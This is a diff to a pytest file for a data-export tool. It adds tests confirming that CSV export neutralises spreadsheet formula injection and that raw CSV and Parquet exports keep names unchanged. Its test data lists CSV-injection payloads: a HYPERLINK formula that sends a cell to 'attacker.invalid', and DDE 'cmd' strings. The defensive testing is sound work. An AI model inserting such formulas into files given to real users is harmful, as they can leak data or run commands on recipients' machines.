@@ -5,13 +5,14 @@ from __future__ import annotations
 import csv
 from pathlib import Path
 
+import duckdb
 import pytest
 
 from ingest.cli import main
 from ingest.export import HYPER_FILE, HYPER_SCHEMA, mart_names
 from ingest.settings import Settings
 from ingest.warehouse import connect
-from tests.helpers import query
+from tests.helpers import make_settings, query
 
 
 @pytest.fixture(scope="module")
@@ -114,3 +115,70 @@ def test_the_exports_exposure_reads_every_mart(demo_settings: Settings) -> None:
     }
     exposure = manifest["exposures"]["exposure.spotiflow.bi_exports"]
     assert set(exposure["depends_on"]["nodes"]) == marts
+
+
+# Names a spreadsheet would run as formulas (OWASP's CSV injection), as third parties may send.
+FORMULAS = [
+    '=HYPERLINK("http://attacker.invalid/leak?"&A2,"Click me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+HARMLESS = ["Plain name", "a=b", "O'Brien", None]
+
+
+@pytest.fixture
+def hostile_settings(tmp_path: Path) -> Settings:
+    """A warehouse whose mart holds hostile names beside negative numbers and a date."""
+    settings = make_settings(tmp_path / "data")
+    settings.data_dir.mkdir(parents=True)
+    names = FORMULAS + HARMLESS
+    with duckdb.connect(str(settings.warehouse_path)) as warehouse:
+        warehouse.execute("create schema marts")
+        warehouse.execute(
+            "create table marts.dim_names (track_name varchar, difference double, "
+            "plays bigint, listen_date date)"
+        )
+        warehouse.executemany(
+            "insert into marts.dim_names values (?, ?, ?, date '2024-04-01')",
+            [[name, -0.25 - i, -i] for i, name in enumerate(names)],
+        )
+    return settings
+
+
+def _csv_rows(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))[1:]
+
+
+def test_csv_export_defuses_formulas_in_text_only(
+    hostile_settings: Settings, tmp_path: Path, monkeypatch
+) -> None:
+    _export(hostile_settings, "csv", tmp_path / "csv", monkeypatch)
+    rows = _csv_rows(tmp_path / "csv" / "dim_names.csv")
+    names = FORMULAS + HARMLESS
+    assert [row[0] for row in rows] == ["'" + name for name in FORMULAS] + [
+        name or "" for name in HARMLESS
+    ]
+    # Numbers stay numbers, however they start; dates as dates.
+    assert [row[1:] for row in rows] == [
+        [repr(-0.25 - i), str(-i), "2024-04-01"] for i in range(len(names))
+    ]
+
+
+def test_raw_csv_and_parquet_keep_names_as_they_are(
+    hostile_settings: Settings, tmp_path: Path, monkeypatch
+) -> None:
+    monkeypatch.setenv("SPOTIFLOW_DATA_DIR", str(hostile_settings.data_dir))
+    assert main(["export", "--format", "csv", "--raw", "--out", str(tmp_path / "raw")]) == 0
+    names = FORMULAS + HARMLESS
+    rows = _csv_rows(tmp_path / "raw" / "dim_names.csv")
+    assert [row[0] for row in rows] == [name or "" for name in names]
+    _export(hostile_settings, "parquet", tmp_path / "parquet", monkeypatch)
+    with duckdb.connect() as reader:
+        exported = reader.execute(
+            f"select track_name from read_parquet('{tmp_path / 'parquet' / 'dim_names.parquet'}')"
+        ).fetchall()
+    assert [name for (name,) in exported] == names
